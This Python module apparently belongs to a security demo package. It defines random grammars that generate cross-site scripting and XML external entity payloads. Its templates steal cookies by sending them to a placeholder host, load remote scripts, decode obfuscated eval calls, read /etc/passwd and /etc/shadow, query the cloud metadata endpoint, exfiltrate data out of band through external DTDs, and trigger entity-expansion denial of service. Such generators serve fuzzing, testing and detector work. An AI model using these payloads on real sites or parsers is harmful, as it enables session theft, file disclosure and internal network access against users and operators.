"""Script in pages (XSS) and entities in XML (XXE)."""

from __future__ import annotations

from random import Random

from securitai.demo.payloads.grammar import Grammar

SCRIPT = Grammar(
    {
        "start": (
            "«out»<script>«code»</script>",
            "«out»<script src=«url»></script>",
            "«out»<«tag» «event»=«quoted»>",
            "«out»<«tag» «attr» «event»=«quoted»>",
            "«out»<svg/onload=«code»>",
            "«out»<img src=«rnd» onerror=«quoted»>",
            '«out»<iframe src="javascript:«code»"></iframe>',
            '«out»<a href="javascript:«code»">«word»</a>',
            "javascript:«code»//«rnd»",
            '" «event»=«quoted» «rnd»="',
            "' «event»='«code»",
            "';«code»;//",
            '"-«code»-"',
            "</«rnd»><script>«code»</script>",
            "<math><mtext><«tag» «event»=«quoted»></math>",
            '<object data="data:text/html;base64,«hex»«hex»"></object>',
            "<style>@import '«url»';</style>",
            '<meta http-equiv=refresh content="0;url=javascript:«code»">',
            "<form action=javascript:«code»><input type=submit>",
            "`;«code»;`",
        ),
        "out": ("", "", "", '">', "'>", "</title>", "-->", "«word» ", "]]>", "</textarea>"),
        "tag": (
            "img",
            "body",
            "svg",
            "video",
            "input autofocus",
            "details open",
            "marquee",
            "div",
            "a",
            "select autofocus",
            "button",
        ),
        "attr": ("src=«rnd»", 'style="«rnd»:«n»"', "id=«rnd»", "class=x«n»", "tabindex=«n»", "/"),
        "event": (
            "onerror",
            "onload",
            "onclick",
            "onmouseover",
            "onfocus",
            "ontoggle",
            "onstart",
            "onpointerenter",
            "onanimationend",
            "oncopy",
        ),
        "quoted": ('"«code»"', "'«code»'", "«code»"),
        "code": (
            "alert(«m»)",
            "alert('«rnd»')",
            "confirm(document.domain+«n»)",
            "prompt`«m»`",
            "fetch('//«host»/«rnd»?c='+document.cookie)",
            "location='«url»?'+document.cookie",
            "new Image().src='«url»/'+btoa(document.cookie)",
            "eval(atob('«hex»«hex»'))",
            "document.write('<script src=«url»><\\/script>')",
            "window['al'+'ert'](«m»)",
            "top[/al/.source+/ert/.source](«n»)",
            "(function(){«rnd»=«n»;alert(«rnd»)})()",
            "setTimeout('alert(«m»)',«n»)",
            "import('«url»')",
            "document.body.innerHTML='«rnd»'",
            "eval(String.fromCharCode(«m»,«m»,«m»))",
            "Function('alert(«m»)')()",
            "localStorage.getItem('«id»')&&alert(«n»)",
        ),
        "url": ("//«host»/«rnd».js", "«scheme»://«host»/«rnd»", "//«host»/«hex»"),
    }
)

XML = Grammar(
    {
        "start": (
            '«decl»<!DOCTYPE «root» [<!ENTITY «ent» SYSTEM "«res»">]>«order»',
            '«decl»<!DOCTYPE «root» [<!ENTITY % «ent» SYSTEM "«res»"> %«ent»;]>«plain»',
            '«decl»<!DOCTYPE «root» [<!ELEMENT «rnd» ANY><!ENTITY «ent» PUBLIC "«rnd»" "«res»">]>«order»',
            '«decl»<!DOCTYPE «root» SYSTEM "«out»">«plain»',
            "«decl»<!DOCTYPE order [<!ENTITY % «ent» SYSTEM '«res»'><!ENTITY % all \"<!ENTITY send SYSTEM '«out»?%«ent»;'>\">%all;]><order><note>&send;</note></order>",
            '«decl»<!DOCTYPE «root» [<!ENTITY a0 "«rnd»"><!ENTITY a1 "&a0;&a0;&a0;&a0;"><!ENTITY «ent» "&a1;&a1;&a1;&a1;">]>«order»',
            '«decl»<order id="«m»" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«res»"/></order>',
            '«decl»<!DOCTYPE «root» [<!ENTITY «ent» SYSTEM "«res»">]><order><buyer>«word»</buyer><note>&«ent»;</note></order>',
        ),
        "root": ("order", "order", "«rnd»", "data"),
        "decl": (
            '<?xml version="1.0"?>',
            '<?xml version="1.0" encoding="UTF-8"?>\n',
            "",
            "<?xml version='1.0'?>\n",
        ),
        "name": ("«rnd»", "x«n»", "xxe«m»", "e«hex»"),
        "res": (
            "file:///etc/«file»",
            "file:///«rnd»/«file»",
            "file:///c:/windows/«rnd».ini",
            "php://filter/read=convert.base64-encode/resource=«file»",
            "expect://«rnd»",
            "«out»",
            "http://169.254.169.254/latest/«rnd»",
            "http://127.0.0.1:«m»/«rnd»",
            "jar:«out»!/«rnd»",
            "netdoc:///etc/«file»",
            "gopher://127.0.0.1:«m»/_«rnd»",
        ),
        "file": ("passwd", "shadow", "hosts", "«rnd».conf", "«id».xml", "hostname", "group"),
        "out": ("http://«host»/«rnd».dtd", "https://«host»/«hex»", "ftp://«host»:«m»/«rnd»"),
        "order": (
            '<order id="«m»"><buyer>&«ent»;</buyer><line sku="«n»" quantity="«n»">«rnd»</line></order>',
            "<order><note>«rnd» &«ent»;</note></order>",
        ),
        "plain": (
            '<order id="«m»"><line sku="«n»" quantity="«m»">«rnd»</line></order>',
            "<order><buyer>«rnd»</buyer></order>",
        ),
    }
)


def xxe(rng: Random) -> str:
    """A whole XML body with an entity (or an inclusion) that reaches out."""
    return XML.make(rng, ent=XML.make(rng, "name"))


def svg_entity(rng: Random) -> tuple[str, str]:
    """A document type that declares an entity, and the entity's name."""
    name = XML.make(rng, "name")
    return f'<!DOCTYPE svg [<!ENTITY {name} SYSTEM "{XML.make(rng, "res")}">]>', name
